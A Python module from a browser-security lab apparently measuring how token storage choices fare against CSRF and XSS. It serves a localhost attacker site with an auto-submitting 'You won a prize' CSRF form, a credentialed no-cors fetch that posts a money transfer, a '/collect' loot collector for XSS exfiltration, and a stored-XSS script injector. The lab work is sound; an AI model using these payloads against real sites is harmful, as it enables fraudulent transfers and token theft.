"""Real browsers for the lab: an attacker's site, an app page at the app's own origin, and
the one interface (AppTab) that Chromium (chromium.py) and Firefox (firefox.py) implement.

The app is on http://localhost:PORT and the attacker on http://127.0.0.1:OTHER:
two different SITES (two localhost ports would be the same site and prove
nothing). The app serves no HTML, so the page of the app that a single-page app
would load is handed to the browser by request interception at a URL of the
app's origin; everything that page fetches goes to the real server.

Each browser runs as it ships (wherever discovery.py finds it) with its default cookie
settings, a fresh profile (cookie jar, storage) per tab.
"""

from __future__ import annotations

import contextlib
import html
import json
import re
import sqlite3
import threading
import time
from abc import ABC, abstractmethod
from contextlib import AbstractContextManager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal, Protocol
from urllib.parse import parse_qs, urlencode, urlsplit

from authlab.ports import free_port

BrowserName = Literal["chromium", "firefox"]
BROWSERS: tuple[BrowserName, ...] = ("chromium", "firefox")
APP_PAGE = "/__lab/app"  # intercepted: never reaches the server
NAVIGATION_TIMEOUT_S = 15.0


class BrowserUnavailable(RuntimeError):
    """The browser cannot run here; the message says why and what to do."""


# How many lines of a failed browser's own output the message quotes.
ERROR_LINES = 3
# Playwright's launch error repeats the browser's output as "[pid=N][err] text".
_PLAYWRIGHT_OUTPUT = re.compile(r"\[pid=\d+\]\[(?:err|out)\] ?(.*)")


class BrowserDidNotStart(BrowserUnavailable):
    """Found, but it did not start (a snap without the right confinement, a missing
    shared library): its path and the first lines of what it said."""

    def __init__(self, path: Path, output: str) -> None:
        self.path = path
        self.lines = first_error_lines(output)
        said = " / ".join(self.lines) if self.lines else "it printed nothing"
        super().__init__(f"the browser at {path} did not start: {said}")


def first_error_lines(output: str, count: int = ERROR_LINES) -> list[str]:
    """The first distinct lines the browser printed: from Playwright's error, its
    "[pid][err]" lines (its own text is launch arguments); else the output itself."""
    lines = [line.strip() for line in output.splitlines() if line.strip()]
    relayed = [
        match.group(1).strip() for line in lines if (match := _PLAYWRIGHT_OUTPUT.search(line))
    ]
    chosen: list[str] = []
    for line in relayed or lines:
        if line and line not in chosen:
            chosen.append(line[:300])
        if len(chosen) == count:
            break
    return chosen


class LabBrowser(Protocol):
    name: BrowserName

    @property
    def version(self) -> str: ...

    @property
    def driver(self) -> str: ...

    def app_tab(
        self, app_origin: str, storage: Storage, exfiltration: bool = False, lax_grace: bool = True
    ) -> AbstractContextManager[AppTab]:
        """A fresh profile with one tab on the app.

        exfiltration: the app's page may reach the attacker's collector (see chromium.py).
        lax_grace=False: the browser runs without the two-minute grace period in which a
        cookie without SameSite still rides cross-site POSTs (the aged cookie, emulated).
        """
        ...


# --- the attacker's site ---------------------------------------------------------------

_FORM_PAGE = """<!doctype html>
<html><head><title>You won a prize</title></head><body>
<form id="f" method="POST" action="{action}">
  <input type="hidden" name="to" value="{to}">
  <input type="hidden" name="amount" value="{amount}">
</form>
<script>document.getElementById("f").submit();</script>
</body></html>
"""

_FETCH_PAGE = """<!doctype html>
<html><head><title>loading</title></head><body>
<script>
fetch({action}, {{
  method: "POST",
  credentials: "include",
  mode: "no-cors",
  body: new URLSearchParams({{to: {to}, amount: {amount}}}),
}}).then(() => {{ document.title = "done:sent"; }},
         (error) => {{ document.title = "done:error " + error; }});
</script>
</body></html>
"""


class _AttackerHandler(BaseHTTPRequestHandler):
    server: _AttackerServer

    def log_message(self, format: str, *args: Any) -> None:
        return None

    def _page(self, body: str) -> None:
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        url = urlsplit(self.path)
        params = {key: values[0] for key, values in parse_qs(url.query).items()}
        action, to, amount = params.get("action", ""), params.get("to", ""), params.get("amount")
        if url.path == "/form":
            self._page(
                _FORM_PAGE.format(
                    action=html.escape(action), to=html.escape(to), amount=html.escape(amount or "")
                )
            )
        elif url.path == "/fetch":
            self._page(
                _FETCH_PAGE.format(
                    action=json.dumps(action), to=json.dumps(to), amount=json.dumps(amount)
                )
            )
        else:
            self.send_error(404)

    def do_POST(self) -> None:
        # /collect: where an XSS payload sends what it read (a no-cors POST).
        length = min(int(self.headers.get("Content-Length") or 0), 1 << 20)
        body = self.rfile.read(length).decode("utf-8", errors="replace")
        with self.server.lock:
            self.server.collected.append({"path": self.path, "body": body})
        self.send_response(204)
        self.end_headers()


class _AttackerServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, address: tuple[str, int]) -> None:
        super().__init__(address, _AttackerHandler)
        self.lock = threading.Lock()
        self.collected: list[dict[str, str]] = []


class AttackerSite:
    """http://127.0.0.1:PORT: auto-submitting form, no-cors fetch, and a loot collector."""

    def __init__(self) -> None:
        self._server = _AttackerServer(("127.0.0.1", free_port()))
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def url(self, path: str, **params: str | int) -> str:
        return f"{self.origin}{path}?{urlencode({k: str(v) for k, v in params.items()})}"

    def collected(self, path: str) -> list[str]:
        with self._server.lock:
            return [item["body"] for item in self._server.collected if item["path"] == path]

    def __enter__(self) -> AttackerSite:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)


# --- the app's page (a single-page app at the app's origin) -----------------------------

# Where the app's own code keeps a credential that travels in a header: the lab's setting
# (issue 9): "localStorage" (the article's advice), "memory" (a variable in a closure of the
# app's code, gone on reload), or "cookie" (the server's HttpOnly cookie: the code keeps
# nothing, the browser attaches the cookie).
Storage = Literal["localStorage", "memory", "cookie"]
HEADER_STORAGES: tuple[Storage, ...] = ("localStorage", "memory")

_APP_PAGE = """<!doctype html>
<html><head><title>authlab app</title></head><body>
<p>authlab - a page of the app, as a single-page app would ship it</p>
<button id="refresh" type="button">refresh profile</button> <span id="who"></span>
<script>
(() => {
  // The app's own code. STORAGE is where it keeps a token that travels in a header.
  const STORAGE = __STORAGE__;
  const memory = {};
  const keep = (name, value) => {
    if (!value) return;
    if (STORAGE === "localStorage") localStorage.setItem(name, value);
    else if (STORAGE === "memory") memory[name] = value;
  };
  const bearer = () =>
    STORAGE === "localStorage" ? localStorage.getItem("access_token") : memory.access_token;
  async function call(path, init) {
    const headers = new Headers((init && init.headers) || {});
    const token = bearer();
    if (token) headers.set("authorization", "Bearer " + token);
    const csrf = (document.cookie.match(/(?:^|; )csrf_token=([^;]*)/) || [])[1];
    if (csrf) headers.set("x-csrf-token", decodeURIComponent(csrf));
    return fetch(path, Object.assign({}, init, {headers, credentials: "same-origin"}));
  }
  async function login(username, password) {
    const response = await fetch("/login", {
      method: "POST",
      credentials: "same-origin",
      headers: {"content-type": "application/json"},
      body: JSON.stringify({username, password}),
    });
    const body = await response.json();
    keep("access_token", body.access_token);
    keep("refresh_token", body.refresh_token);
    return {status: response.status, keys: Object.keys(body)};
  }
  document.getElementById("refresh").addEventListener("click", async () => {
    const response = await call("/me");
    const body = response.status === 200 ? await response.json() : {};
    document.getElementById("who").textContent = body.username || "";
  });
  window.appLogin = login;  // what the page's login form would call
})();
</script>
</body></html>
"""


def app_page(storage: Storage) -> str:
    return _APP_PAGE.replace("__STORAGE__", json.dumps(storage))


# --- what reached the server, and what the browser held back ---------------------------


def read_observed(log: Path, since: int, path: str) -> list[dict[str, Any]]:
    """Requests to `path` the server logged after byte offset `since` (servers/observe.py)."""
    if not log.exists():
        return []
    with log.open("rb") as handle:
        handle.seek(since)
        lines = handle.read().decode("utf-8", errors="replace").splitlines()
    entries = [json.loads(line) for line in lines if line.strip()]
    return [entry for entry in entries if entry.get("path") == path]


def log_offset(log: Path) -> int:
    return log.stat().st_size if log.exists() else 0


def balance(database: Path, username: str) -> int | None:
    """The user's balance in the server's own user store (read-only)."""
    with sqlite3.connect(f"file:{database}?mode=ro", uri=True, timeout=5) as connection:
        row = connection.execute(
            "SELECT balance FROM users WHERE username = ?", (username,)
        ).fetchone()
    return int(row[0]) if row else None


class AppTab(ABC):
    """One tab in a fresh profile, on the app's page: what the experiments do in it."""

    browser: BrowserName

    def __init__(self, app_origin: str, storage: Storage) -> None:
        self.app_origin = app_origin
        self.storage = storage
        self.logged_in_at: float | None = None

    @abstractmethod
    def visit(self, url: str) -> None:
        """Navigate the tab and wait until the page has loaded."""

    @abstractmethod
    def evaluate(self, function: str, argument: Any = None) -> Any:
        """Call a JavaScript (async) function with one JSON argument in the page; its result."""

    @abstractmethod
    def url(self) -> str: ...

    @abstractmethod
    def cookies(self) -> list[dict[str, Any]]:
        """The profile's cookies for the app: {name, value, httpOnly, sameSite}."""

    def withheld(self, path: str, cookie_name: str) -> list[str]:
        """Why the browser held the cookie back from requests to path, where it says so."""
        return []

    def clear_withheld(self) -> None:
        return None

    def open_app(self) -> None:
        self.visit(f"{self.app_origin}{APP_PAGE}")

    def login(self, username: str, password: str) -> dict[str, Any]:
        self.open_app()
        result: dict[str, Any] = self.evaluate("([u, p]) => appLogin(u, p)", [username, password])
        self.logged_in_at = time.monotonic()
        return result

    def cookie(self, name: str) -> dict[str, Any] | None:
        for cookie in self.cookies():
            if cookie["name"] == name:
                return cookie
        return None

    def cookie_age(self) -> float | None:
        return None if self.logged_in_at is None else time.monotonic() - self.logged_in_at

    def title(self) -> str:
        return str(self.evaluate("() => document.title"))

    def wait_for(self, predicate: str, timeout: float = NAVIGATION_TIMEOUT_S) -> None:
        """Poll a JavaScript expression in the page until it is true."""
        deadline = time.monotonic() + timeout
        while True:
            # An error: the page is between two documents; ask again.
            with contextlib.suppress(Exception):
                if self.evaluate(f"() => Boolean({predicate})"):
                    return
            if time.monotonic() > deadline:
                raise TimeoutError(f"{self.browser}: {predicate!r} not true after {timeout} s")
            time.sleep(0.05)

    def wait_for_url(self, url: str, timeout: float = NAVIGATION_TIMEOUT_S) -> None:
        deadline = time.monotonic() + timeout
        while self.url() != url:
            if time.monotonic() > deadline:
                raise TimeoutError(f"{self.browser}: still at {self.url()}, not {url}")
            time.sleep(0.05)

    def add_script(self, content: str) -> None:
        """A script element in the app's page: what a stored XSS puts there."""
        self.evaluate(
            "(code) => { const s = document.createElement('script'); s.textContent = code;"
            " document.head.appendChild(s); return true; }",
            content,
        )
